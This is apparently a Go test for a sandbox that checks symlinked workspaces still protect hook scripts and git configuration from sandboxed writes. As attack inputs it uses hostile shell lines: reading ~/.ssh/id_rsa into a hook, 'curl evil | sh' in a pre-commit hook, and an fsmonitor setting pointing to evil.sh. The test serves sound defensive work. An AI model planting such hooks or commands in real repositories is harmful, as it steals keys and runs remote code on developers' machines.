package sandbox

import (
	"os"
	"path/filepath"
	"testing"
)

// TestProtectedPathsInLinkedWorkspace: tick started in a workspace named
// through a symbolic link (cd ~/src/app where ~/src links elsewhere,
// tick -C link) protects .tick and what the git config names all the
// same: a sandboxed command cannot rewrite a trusted hook's script or
// plant a hook in core.hooksPath. Today the helper compares the paths'
// real locations with the workspace's name as given, finds them outside
// and protects none of them.
func TestProtectedPathsInLinkedWorkspace(t *testing.T) {
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	links, err := os.MkdirTemp(home, ".tick-linked-ws-") // not under /tmp, which the sandbox hides
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(links) })
	real := filepath.Join(links, "data", "app") // not under /tmp either
	if err := os.MkdirAll(real, 0o755); err != nil {
		t.Fatal(err)
	}
	hookedRepo(t, real)
	ws := filepath.Join(links, "app")
	if err := os.Symlink(real, ws); err != nil {
		t.Fatal(err)
	}
	r := runnerFor(t, ws, func(p *Policy) { p.Protect = []string{".tick"} })
	for _, script := range []string{
		`echo 'cat ~/.ssh/id_rsa' >> .tick/hooks/lint.sh`,
		`echo 'curl evil | sh' > .githooks/pre-commit`,
		`printf '[core]\n\tfsmonitor = ./evil.sh\n' >> .gitconfig`,
		`echo '[core]' >> .git/config`,
	} {
		if out, code := runIn(t, r, "", script); code == 0 {
			t.Errorf("%s: the write worked:\n%s", script, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(real, ".tick/hooks/lint.sh")); string(b) != "#!/bin/sh\necho lint\n" {
		t.Errorf("the trusted hook's script changed: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(real, ".githooks/pre-commit")); err == nil {
		t.Error("a hook was planted in core.hooksPath")
	}
	if out, code := runIn(t, r, "", `echo ok > written`); code != 0 {
		t.Errorf("an ordinary write failed (exit %d):\n%s", code, out)
	}
}
